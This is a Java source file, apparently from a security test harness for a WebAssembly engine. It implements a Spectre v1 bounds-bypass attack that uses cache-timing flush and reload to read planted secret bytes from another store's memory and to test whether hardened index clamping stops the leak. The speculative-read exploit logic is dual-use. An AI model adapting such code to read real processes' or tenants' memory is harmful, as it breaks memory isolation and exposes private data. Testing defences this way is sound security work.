package dev.skerry.security;

import dev.skerry.wasm.Engine;
import dev.skerry.wasm.EngineOptions;
import dev.skerry.wasm.Func;
import dev.skerry.wasm.LinkError;
import dev.skerry.wasm.Linker;
import dev.skerry.wasm.Memory;
import dev.skerry.wasm.MemoryStrategy;
import dev.skerry.wasm.Store;
import dev.skerry.wasm.Tier;
import dev.skerry.wasm.Trap;
import dev.skerry.wasm.format.Limits;
import dev.skerry.wasm.format.MemoryType;
import dev.skerry.wasm.format.ValType;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.IntUnaryOperator;

/**
 * Spectre v1 on loads: the bounds test of a guest's access is mistrained, and what the processor loads before it knows
 * better is read out of the caches by flush and reload, with the clock and the cache flushes that no guest has. The
 * control does the same without {@code HARDENED}, after a gadget in machine code has shown that the clock sees it.
 */
final class SpeculativeReading implements Attack {

  private static final int SECRET_BYTES = 8;
  private static final int SECRET_AT = 0x4c0;
  private static final int PAGES = 32;
  private static final long PROBE_AT = 1 << 20;
  private static final int MEMORIES = 6;
  /** Looks at a gadget that is known to leak: other programs on the machine may disturb some. */
  private static final int PATIENCE = 10;

  @Override
  public Card card() {
    return new Card("speculative-reading", Target.PROCESSOR,
        "read another origin's memory by what the processor loads before it has checked the bounds",
        Invariant.MEMORY_IS_PRIVATE,
        "indices clamped without a branch (HARDENED)", AttackClass.SPECTRE_V1);
  }

  @Override
  public Outcome run(Setting setting) throws LinkError {
    return CacheTimer.look(clock -> setting.isUp()
        ? attack(setting.engine().withMemory(MemoryStrategy.HARDENED), clock)
        : control(setting.engine().withTier(Tier.JIT), clock));
  }

  private static Outcome attack(EngineOptions engine, CacheTimer.Calibration clock) throws LinkError {
    int narrow = bytesReadBy(engine, ValType.I32, clock);
    int wide = bytesReadBy(engine, ValType.I64, clock);
    return new Outcome(isLeak(narrow) || isLeak(wide), "of " + SECRET_BYTES + " bytes " + narrow
        + " were read with addresses of 32 bits and " + wide + " of 64 bits; " + clock);
  }

  private static Outcome control(EngineOptions engine, CacheTimer.Calibration clock) throws LinkError {
    int known = 0;
    for (int i = 0; i < PATIENCE && !isLeak(known); i++) {
      known = bytesReadByTheGadget(clock);
    }
    if (!isLeak(known)) {
      return Outcome.unshown("a gadget in machine code reads " + known + " of " + SECRET_BYTES
          + " bytes, so this machine shows no speculation to the clock; " + clock);
    }
    List<String> seen = new ArrayList<>(List.of("a gadget in machine code read " + known + " of " + SECRET_BYTES));
    boolean leaks = false;
    for (MemoryStrategy memory : List.of(MemoryStrategy.GUARD, MemoryStrategy.CHECK, MemoryStrategy.MASK)) {
      int narrow = bytesReadBy(engine.withMemory(memory), ValType.I32, clock);
      int wide = bytesReadBy(engine.withMemory(memory), ValType.I64, clock);
      seen.add(memory + " " + narrow + " with addresses of 32 bits and " + wide + " of 64 bits");
      leaks |= isLeak(Math.max(narrow, wide));
    }
    return new Outcome(leaks, String.join(", ", seen) + "; " + clock);
  }

  /** More than chance gives: a guess is right once in 255 times. */
  private static boolean isLeak(int bytes) {
    return bytes >= SECRET_BYTES / 2;
  }

  private static byte[] secret() {
    byte[] secret = new byte[SECRET_BYTES];
    Random random = new Random();
    for (int i = 0; i < SECRET_BYTES; i++) {
      secret[i] = (byte) (1 + random.nextInt(SpeculationProbe.LINES - 1));
    }
    return secret;
  }

  private static int right(byte[] secret, IntUnaryOperator seen) {
    int right = 0;
    for (int i = 0; i < secret.length; i++) {
      right += seen.applyAsInt(i) == Byte.toUnsignedInt(secret[i]) ? 1 : 0;
    }
    return right;
  }

  /** How many bytes behind an array machine code without clamps gives away: what the clock must see to be a clock. */
  private static int bytesReadByTheGadget(CacheTimer.Calibration clock) throws LinkError {
    try (Store store = Engine.create().newStore()) {
      Memory memory = memory(store, ValType.I32);
      byte[] secret = secret();
      memory.write(SECRET_AT, secret, 0, secret.length);
      long array = EngineInsides.bytes(memory);
      long limit = array + 0x2000;
      memory.putLong(0x2000, 16);
      SpeculationProbe probe = new SpeculationProbe(array + PROBE_AT, clock.threshold());
      touchAll(memory);
      return right(secret, i -> probe.look(index -> {
        memory.getByte(SECRET_AT + i);
        CacheTimer.load(array, limit, index, probe.base());
      }, 0, SECRET_AT + i, limit).value());
    }
  }

  /** How many bytes of another store's memory a guest loads in speculation. */
  private static int bytesReadBy(EngineOptions options, ValType address, CacheTimer.Calibration clock)
      throws LinkError {
    Engine engine = Engine.create(options);
    try (Store bank = engine.newStore(); Store evil = engine.newStore()) {
      Memory own = memory(evil, address);
      long base = EngineInsides.bytes(own);
      Memory theirs = reachable(bank, base, address);
      if (theirs == null) {
        return 0;
      }
      byte[] secret = secret();
      theirs.write(SECRET_AT, secret, 0, secret.length);
      touchAll(own);
      String guest = address.equals(ValType.I64) ? "bounds-bypass-64" : "bounds-bypass";
      Func load = new Linker(evil).define("fault-domain", "memory", own)
          .instantiate(Guests.module(engine, guest)).func("load").orElseThrow();
      SpeculationProbe probe = new SpeculationProbe(base + PROBE_AT, clock.threshold());
      long distance = EngineInsides.bytes(theirs) - base + SECRET_AT;
      long length = EngineInsides.record(own) + Long.BYTES;
      long[] slots = new long[1];
      return right(secret, i -> probe.look(index -> {
        theirs.getByte(SECRET_AT + i);
        slots[0] = index;
        try {
          load.invoke(slots);
        } catch (Trap expected) {
          slots[0] = 0;
        }
      }, 0, distance + i, length).value());
    }
  }

  /** A memory of the victim's that an index of that width reaches from the base; null if none came to lie there. */
  private static Memory reachable(Store bank, long base, ValType address) throws LinkError {
    for (int i = 0; i < MEMORIES; i++) {
      Memory memory = memory(bank, ValType.I32);
      long distance = EngineInsides.bytes(memory) - base;
      if (address.equals(ValType.I64) || distance >= 0 && distance < 1L << 32) {
        return memory;
      }
    }
    return null;
  }

  private static Memory memory(Store store, ValType address) throws LinkError {
    return Memory.create(store, new MemoryType(new Limits(PAGES, PAGES), false, address));
  }

  /** So that every page of the probe is there: speculation waits for no page. */
  private static void touchAll(Memory memory) {
    for (int line = 0; line < SpeculationProbe.LINES; line++) {
      memory.putByte(PROBE_AT + (long) line * SpeculationProbe.STRIDE + 64, (byte) 1);
    }
  }
}
